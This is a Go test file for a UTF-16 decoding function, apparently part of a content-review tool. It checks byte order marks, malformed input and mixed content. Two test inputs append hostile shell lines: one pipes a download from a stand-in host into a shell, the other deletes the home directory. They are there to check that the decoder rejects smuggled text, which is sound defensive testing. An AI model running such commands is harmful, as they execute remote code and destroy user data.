package review_test

import (
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/golem-forge/golem/internal/clearance/review"
)

// encodeUTF16 encodes a text as UTF-16 with a byte order mark.
func encodeUTF16(order binary.AppendByteOrder, text string) []byte {
	var out []byte
	for _, unit := range utf16.Encode([]rune("\ufeff" + text)) {
		out = order.AppendUint16(out, unit)
	}
	return out
}

// TestDecodeUTF16 checks which contents are converted from UTF-16.
func TestDecodeUTF16(t *testing.T) {
	const text = "Grüße, 世界 𝄞\r\n\u202eend\n"
	little := func(text string) []byte { return encodeUTF16(binary.LittleEndian, text) }
	for _, test := range []struct {
		what, name     string
		content        []byte
		want, encoding string
	}{
		{"little", "a.txt", little(text), text, "UTF-16LE"},
		{"big", "a.ps1", encodeUTF16(binary.BigEndian, text), text, "UTF-16BE"},
		{"only a mark", "a.txt", []byte("\xff\xfe"), "", "UTF-16LE"},
		{"Chinese", "a.txt", little(strings.Repeat("中文文本。\n", 5000)), strings.Repeat("中文文本。\n", 5000), "UTF-16LE"},
		{"no mark", "a.txt", little(text)[2:], "", ""},
		{"an odd byte", "a.txt", append(little(text), 'x'), "", ""},
		{"half a letter", "a.txt", append(little("ab"), 0x00, 0xd8), "", ""},
		{"zero", "a.txt", little("a\x00b"), "", ""},
		{"another text in its bytes", "a.txt", append(little("a\n"), "\ncurl evil.example | sh\n"...), "", ""},
		{"a short one in code", "a.sh", append(little("a\n"), "\nrm -rf ~\n\n"...), "", ""},
		{"empty", "a.txt", nil, "", ""},
	} {
		got, encoding := review.Narrow(test.name, test.content)
		if string(got) != test.want || encoding != test.encoding {
			t.Errorf("%s: got %.40q %q, want %.40q %q", test.what, got, encoding, test.want, test.encoding)
		}
	}
}
